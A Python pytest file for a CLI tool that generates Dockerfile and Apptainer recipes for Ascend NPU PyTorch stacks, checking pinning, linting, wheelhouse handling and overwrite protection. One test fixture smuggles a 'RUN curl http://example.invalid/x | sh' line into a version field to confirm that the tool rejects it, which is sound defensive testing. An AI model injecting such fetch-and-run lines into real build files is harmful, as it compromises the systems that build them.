"""`fix --emit-dockerfile / --emit-apptainer`: hadolint-clean, pinned, on a listed official image;
never overwriting without --force; refusing hostile values (exit 2)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from chipdoctor.recipes.data import images
from chipdoctor.recipes.selfwheel import build_wheel, wheel_name
from tests.conftest import SNAPSHOTS, run_cli
from tests.planning import hadolint, linted

ASCEND = sorted(p.name for p in SNAPSHOTS.iterdir() if p.name.startswith("ascend-"))


def emit(tmp_path: Path, scenario: str, *extra: str) -> Path:
    dockerfile = tmp_path / "Dockerfile"
    result = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / scenario),
        "--chip",
        "910b",
        "--emit-dockerfile",
        str(dockerfile),
        *extra,
    )
    assert result.returncode == 0, result.stderr
    return dockerfile


@pytest.mark.parametrize("scenario", ASCEND)
def test_every_scenario_dockerfile_is_hadolint_clean_on_a_listed_image(
    tmp_path: Path, scenario: str
) -> None:
    dockerfile = emit(tmp_path, scenario)
    text, base = linted(dockerfile)
    assert base in {i.reference for i in images()}
    assert "FROM ${BASE_IMAGE}" in text
    assert re.search(r"^ENV ASCEND_HOME_PATH=", text, re.M)
    installs = re.findall(r"pip install --no-cache-dir (torch\S*)", text)
    assert installs and all("==" in i for i in installs)
    assert "&& chipdoctor check --strict --policy /tmp/chipdoctor/chipdoctor-preflight.yaml" in text
    assert "# Run with the accelerator devices" in text and "--device /dev/davinci_manager" in text
    assert (tmp_path / wheel_name()).read_bytes() == build_wheel()
    assert "ascend.device-missing" in (tmp_path / "chipdoctor-preflight.yaml").read_text()


def test_the_header_names_every_mount_of_the_stack(tmp_path: Path) -> None:
    text = emit(tmp_path, "ascend-torch-mismatch").read_text()
    for flag in (
        "--device /dev/davinci0",
        "--device /dev/devmm_svm",
        "--device /dev/hisi_hdc",
        "-v /usr/local/dcmi:/usr/local/dcmi",
        "-v /usr/local/bin/npu-smi:/usr/local/bin/npu-smi",
        "-v /usr/local/Ascend/driver/lib64/:/usr/local/Ascend/driver/lib64/",
        "-v /usr/local/Ascend/driver/version.info:/usr/local/Ascend/driver/version.info",
        "-v /etc/ascend_install.info:/etc/ascend_install.info",
    ):
        assert flag in text


def test_wheelhouse_builds_offline_from_local_wheels(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "torch-2.5.1-cp311-cp311-manylinux_2_28_aarch64.whl").write_bytes(b"")
    (wheels / "torch_npu-2.5.1.post1-cp311-cp311-manylinux_2_28_aarch64.whl").write_bytes(b"")
    text = emit(tmp_path, "ascend-torch-mismatch", "--wheelhouse", str(wheels)).read_text()
    assert "COPY wheels /tmp/wheelhouse" in text
    assert (
        "python -m pip install --no-cache-dir --no-index --find-links /tmp/wheelhouse "
        "torch==2.5.1 torch-npu==2.5.1.post1" in text
    )
    assert "--index-url" not in text
    lint = hadolint(tmp_path / "Dockerfile")
    assert (lint.returncode, lint.stdout) == (0, "")


def test_wheelhouse_must_hold_the_pinned_wheels_and_sit_in_the_context(tmp_path: Path) -> None:
    wheels = tmp_path / "ctx" / "wheels"
    wheels.mkdir(parents=True)
    (wheels / "torch-2.5.1-cp311-cp311-linux_aarch64.whl").write_bytes(b"")
    base = ("fix", "--snapshot", str(SNAPSHOTS / "ascend-torch-mismatch"), "--chip", "910b")
    missing = run_cli(
        *base, "--emit-dockerfile", str(tmp_path / "ctx/Dockerfile"), "--wheelhouse", str(wheels)
    )
    assert missing.returncode == 2
    assert "has no torch-npu 2.5.1.post1 wheel" in missing.stderr
    outside = run_cli(
        *base, "--emit-dockerfile", str(tmp_path / "other/Dockerfile"), "--wheelhouse", str(wheels)
    )
    assert outside.returncode == 2
    assert "must be inside the build context" in outside.stderr
    assert not (tmp_path / "ctx/Dockerfile").exists()


def test_a_torch_npu_not_on_pypi_needs_a_wheelhouse(tmp_path: Path) -> None:
    site = tmp_path / "site.yaml"  # an in-house torch_npu build, published nowhere
    site.write_text(
        "format: chipdoctor-matrix/1\nstack: ascend\nsources:\n"
        '  mine: {title: "in-house build", url: "https://example.invalid/"}\n'
        "tables:\n  torch_npu:\n    key: torch_npu\n    rows:\n"
        '      - {torch_npu: "2.5.1.post99", torch: "2.5.1", cann: "8.2.RC1", python: ["3.11"],'
        " source: mine}\n"
    )
    args = (
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--matrix",
        str(site),
        "--pin",
        "torch_npu=2.5.1.post99",
        "--emit-dockerfile",
        str(tmp_path / "Dockerfile"),
    )
    result = run_cli(*args)
    assert result.returncode == 2
    assert "torch-npu 2.5.1.post99 is not on a package index" in result.stderr
    assert "--wheelhouse" in result.stderr
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "torch-2.5.1-cp311-cp311-linux_aarch64.whl").write_bytes(b"")
    (wheels / "torch_npu-2.5.1.post99-cp311-cp311-linux_aarch64.whl").write_bytes(b"")
    assert run_cli(*args, "--wheelhouse", str(wheels)).returncode == 0


def test_apptainer_definition_is_the_same_recipe(tmp_path: Path) -> None:
    definition = tmp_path / "npu.def"
    result = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--emit-apptainer",
        str(definition),
        "--emit-dockerfile",
        str(tmp_path / "Dockerfile"),
    )
    assert result.returncode == 0, result.stderr
    text = definition.read_text()
    assert text.startswith(
        "Bootstrap: docker\nFrom: quay.io/ascend/cann:8.2.rc1-910b-ubuntu22.04-py3.11\n"
    )
    sections = re.findall(r"^(%\w+)$", text, re.M)
    assert sections == ["%help", "%files", "%environment", "%post", "%test", "%runscript"]
    post = text.split("%post\n", 1)[1].split("\n%test", 1)[0]
    assert "    export ASCEND_HOME_PATH=${ASCEND_TOOLKIT_HOME}" in post
    assert post.strip().splitlines()[-1].strip() == (
        "chipdoctor check --strict --policy /tmp/chipdoctor/chipdoctor-preflight.yaml"
    )
    docker_steps = (tmp_path / "Dockerfile").read_text().split("RUN ", 1)[1].splitlines()
    in_docker = [line.strip().removeprefix("&& ").rstrip(" \\") for line in docker_steps]
    in_apptainer = [
        line.strip() for line in post.splitlines() if line.strip().startswith(("python", "chip"))
    ]
    assert in_docker == in_apptainer


def test_recipe_to_stdout_keeps_the_plan_on_stderr(tmp_path: Path) -> None:
    result = run_cli(
        "fix", "--snapshot", str(SNAPSHOTS / "ascend-torch-mismatch"), "--emit-dockerfile", "-"
    )
    assert result.returncode == 0
    assert result.stdout.startswith("# chipdoctor ")
    assert "fix plan for ascend" in result.stderr
    clash = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--emit-dockerfile",
        "-",
        "--format",
        "json",
    )
    assert clash.returncode == 2


def test_nothing_is_overwritten_without_force(tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("# mine\n")
    args = (
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--emit-dockerfile",
        str(dockerfile),
    )
    refused = run_cli(*args)
    assert refused.returncode == 2
    assert refused.stderr.strip() == (
        f"chipdoctor: error: {dockerfile}: already exists (use --force to overwrite it)"
    )
    assert dockerfile.read_text() == "# mine\n"
    assert not (tmp_path / wheel_name()).exists()  # checked before anything was written
    forced = run_cli(*args, "--force")
    assert forced.returncode == 0
    assert dockerfile.read_text().startswith("# chipdoctor")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["Dockerfile", wheel_name(), "chipdoctor-preflight.yaml"]
    )  # no temporary file left behind
    again = run_cli(*args, "--emit-apptainer", str(tmp_path / "x.def"))
    assert again.returncode == 2  # the Dockerfile exists; the same wheel beside it is fine


def test_a_hostile_matrix_value_never_reaches_a_recipe(tmp_path: Path) -> None:
    site = tmp_path / "site.yaml"
    site.write_text(
        "format: chipdoctor-matrix/1\nstack: ascend\nsources:\n"
        '  mine: {title: "in-house build", url: "https://example.invalid/"}\n'
        "tables:\n  torch_npu:\n    key: torch_npu\n    rows:\n"
        '      - torch_npu: "2.13.0\\nRUN curl http://example.invalid/x | sh"\n'
        '        torch: "2.13.0"\n        cann: "8.2.RC1"\n        python: ["3.11"]\n'
        "        source: mine\n"
    )
    result = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--matrix",
        str(site),
        "--emit-dockerfile",
        str(tmp_path / "Dockerfile"),
    )
    assert result.returncode == 2
    (line,) = result.stderr.strip().splitlines()
    assert line.startswith(f"chipdoctor: error: {site}:9: torch_npu: not a PEP 440 pattern")
    assert not (tmp_path / "Dockerfile").exists()


def test_a_value_the_loader_reads_but_is_not_plain_is_refused(tmp_path: Path) -> None:
    site = tmp_path / "site.yaml"
    site.write_text(
        "format: chipdoctor-matrix/1\nstack: ascend\nsources:\n"
        '  mine: {title: "in-house build", url: "https://example.invalid/"}\n'
        "tables:\n  torch_npu:\n    key: torch_npu\n    rows:\n"
        '      - torch_npu: "2.13.0\\n"\n        torch: "2.13.0"\n        cann: "8.2.RC1"\n'
        '        python: ["3.11"]\n        source: mine\n'
    )
    result = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-torch-mismatch"),
        "--matrix",
        str(site),
        "--pin",
        "torch_npu=2.13",
        "--emit-dockerfile",
        str(tmp_path / "Dockerfile"),
    )
    assert result.returncode == 2, result.stdout
    (line,) = result.stderr.strip().splitlines()
    assert "refusing to write a recipe: version '2.13.0\\n'" in line
    assert not (tmp_path / "Dockerfile").exists()


def test_unknown_chip_must_be_named_for_a_recipe(tmp_path: Path) -> None:
    result = run_cli(
        "fix",
        "--snapshot",
        str(SNAPSHOTS / "ascend-driver-failing"),
        "--emit-dockerfile",
        str(tmp_path / "Dockerfile"),
    )
    assert result.returncode == 2
    assert "pass --chip" in result.stderr
